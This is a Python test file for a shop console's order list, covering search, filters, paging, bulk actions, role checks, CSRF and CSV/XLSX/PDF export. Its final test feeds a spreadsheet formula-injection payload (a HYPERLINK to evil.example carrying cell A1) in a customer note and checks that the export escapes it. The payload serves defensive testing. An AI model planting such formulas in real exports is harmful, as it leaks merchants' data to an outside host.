"""The order list: tabs with counts, search, filters in the URL, pages, bulk actions, export."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

from factories.shop import make_sku, order_body, stock_of


async def place(client, headers, *lines, **extra) -> str:
    answer = await client.post("/api/v1/orders", json=order_body(*lines, **extra), headers=headers)
    assert answer.status_code == 201, answer.text
    return answer.json()["number"]


async def test_tabs_count_orders_and_search_finds_them(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=20, price="300")
    confirmed = await place(client, api, (cup, 1))
    review = await place(client, api, (cup, 1), channel="manual",
                         customer={"name": "陳美玲", "phone": "0922333444", "email": "mei@example.com"})
    unpaid = await place(client, api, (cup, 2), payment="online", external_id="SHOP-77")
    page = await console("owner")
    html = (await page.get("/console/orders")).text
    for tab, count in (("all", 3), ("confirmed", 1), ("pending_review", 1), ("pending_payment", 1), ("cancelled", 0)):
        assert f'data-testid="count-{tab}">{count}<' in html
    tab = (await page.get("/console/orders?tab=pending_review")).text
    assert review in tab and confirmed not in tab
    from_dashboard = (await page.get("/console/orders?status=confirmed")).text
    assert confirmed in from_dashboard and review not in from_dashboard
    assert "待審核" in tab
    for term, wanted in (("陳美玲", review), ("0922-333-444", review), ("SHOP-77", unpaid), (unpaid, unpaid),
                         ("mei@example.com", review), (cup, confirmed)):
        found = (await page.get("/console/orders", params={"q": term})).text
        assert wanted in found, term
    assert confirmed not in (await page.get("/console/orders", params={"q": "陳美玲"})).text


async def test_filters_are_kept_in_the_url_and_narrow_the_list(client, db, login, console):
    api = await login("owner")
    cheap, dear = await make_sku(db, stock=20, price="100"), await make_sku(db, stock=20, price="2000")
    small = await place(client, api, (cheap, 1))
    big = await place(client, api, (dear, 1), channel="app", payment="bank_transfer")
    page = await console("owner")
    html = (await page.get("/console/orders?min=1000&channel=app&pay=bank_transfer&tab=all")).text
    assert big in html and small not in html
    assert 'value="1000"' in html  # the filter form shows the view it came from
    assert "tab=confirmed" in html and "min=1000" in html  # tab links keep the filters
    by_date = (await page.get("/console/orders?from=2000-01-01&to=2000-01-02")).text
    assert big not in by_date and small not in by_date
    odd = await page.get("/console/orders?min=lots&from=yesterday")
    assert odd.status_code == 200 and "min" in odd.text and big in odd.text


async def test_cursor_pages_walk_through_every_order(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=100)
    numbers = {await place(client, api, (cup, 1)) for _ in range(27)}
    page = await console("analyst")
    first = (await page.get("/console/orders")).text
    next_url = re.search(r'href="([^"]+)" rel="next"', first).group(1).replace("&amp;", "&")
    second = (await page.get(next_url)).text
    seen = set(re.findall(r'data-number="([^"]+)"', first)) | set(re.findall(r'data-number="([^"]+)"', second))
    assert seen == numbers
    assert 'rel="next"' not in second


async def test_bulk_confirm_and_cancel_with_reason(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=10)
    one, two = [await place(client, api, (cup, 1), channel="manual") for _ in range(2)]
    page = await console("clerk")
    token = page.csrf
    answer = await page.post("/console/orders/bulk", data={
        "csrf_token": token, "action": "confirm", "number": [one], "view": "tab=pending_review"})
    assert answer.status_code == 303 and "done=1" in answer.headers["location"]
    assert "tab=pending_review" in answer.headers["location"]
    no_reason = await page.post("/console/orders/bulk", data={"csrf_token": token, "action": "cancel", "number": [two]})
    assert "reason_needed" in no_reason.headers["location"]
    cancelled = await page.post("/console/orders/bulk", data={
        "csrf_token": token, "action": "cancel", "number": [one, two], "reason": "客戶取消"})
    assert "done=2" in cancelled.headers["location"]
    assert await stock_of(db, cup) == (10, 0, 10)
    state = (await client.get(f"/api/v1/orders/{one}", headers=api)).json()
    assert state["status"] == "cancelled"


async def test_export_the_selection_as_csv_and_xlsx(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=10, price="350")
    picked = await place(client, api, (cup, 2))
    other = await place(client, api, (cup, 1))
    page = await console("analyst")
    answer = await page.post("/console/orders/bulk", data={
        "csrf_token": page.csrf, "action": "export_csv", "number": [picked]})
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [r["number"] for r in rows] == [picked]
    assert rows[0]["total"] == "780" and rows[0]["customer_name"] == "王小明" and rows[0]["items"] == f"{cup} × 2"
    whole = await page.post("/console/orders/bulk", data={
        "csrf_token": page.csrf, "action": "export_xlsx", "view": "tab=all"})
    sheet = load_workbook(io.BytesIO(whole.content)).active
    values = list(sheet.values)
    assert values[0][0] == "number" and {v[0] for v in values[1:]} == {picked, other}


async def test_an_analyst_sees_no_confirm_button_and_gets_403(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=10)
    number = await place(client, api, (cup, 1), channel="manual")
    page = await console("analyst")
    html = (await page.get("/console/orders")).text
    assert 'data-testid="bulk-confirm"' not in html and 'data-testid="export-csv"' in html
    answer = await page.post("/console/orders/bulk", data={"csrf_token": page.csrf, "action": "confirm", "number": [number]})
    assert answer.status_code == 403
    order = (await page.get(f"/console/orders/{number}")).text
    assert 'data-testid="confirm"' not in order
    direct = await page.post(f"/console/orders/{number}/confirm", data={"csrf_token": page.csrf})
    assert direct.status_code == 403
    assert (await client.get(f"/api/v1/orders/{number}", headers=api)).json()["status"] == "pending_review"


async def test_bulk_actions_without_the_csrf_token_are_refused(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=10)
    number = await place(client, api, (cup, 1), channel="manual")
    page = await console("owner")
    answer = await page.post("/console/orders/bulk", data={"action": "confirm", "number": [number]})
    assert answer.status_code == 403
    wrong = await page.post(f"/console/orders/{number}/confirm", data={"csrf_token": "forged"})
    assert wrong.status_code == 403
    assert (await client.get(f"/api/v1/orders/{number}", headers=api)).json()["status"] == "pending_review"


async def test_shipping_notes_print_for_the_selection(client, db, login, console):
    api = await login("owner")
    cup = await make_sku(db, stock=10)
    numbers = [await place(client, api, (cup, 1)) for _ in range(2)]
    warehouse = await console("warehouse")
    pdf = await warehouse.post("/console/orders/bulk", data={
        "csrf_token": warehouse.csrf, "action": "print", "number": numbers})
    assert pdf.headers["content-type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    single = await warehouse.get(f"/console/orders/{numbers[0]}/shipping-note.pdf")
    assert single.status_code == 200 and single.content.startswith(b"%PDF")
    analyst = await console("analyst")
    assert (await analyst.get(f"/console/orders/{numbers[0]}/shipping-note.pdf")).status_code == 403


async def test_a_customer_note_never_becomes_a_formula_in_the_merchant_export(client, db, login, console):
    """A note starting with "=" would run as a formula in the merchant's spreadsheet, and a
    control character cannot be stored in an XLSX file at all: both exports stay text."""
    api = await login("owner")
    cup = await make_sku(db, stock=10)
    note = '=HYPERLINK("http://evil.example/?"&A1,"詳情")\x07'
    number = await place(client, api, (cup, 1), note=note)
    page = await console("analyst")
    as_csv = await page.post(
        "/console/orders/bulk", data={"csrf_token": page.csrf, "action": "export_csv", "number": [number]}
    )
    (row,) = csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig")))
    assert row["note"].startswith("'=HYPERLINK(")
    as_xlsx = await page.post(
        "/console/orders/bulk", data={"csrf_token": page.csrf, "action": "export_xlsx", "number": [number]}
    )
    assert as_xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    header, values = list(sheet.iter_rows(max_row=2))
    cell = values[[c.value for c in header].index("note")]
    assert cell.data_type == "s" and cell.value == note.rstrip("\x07")
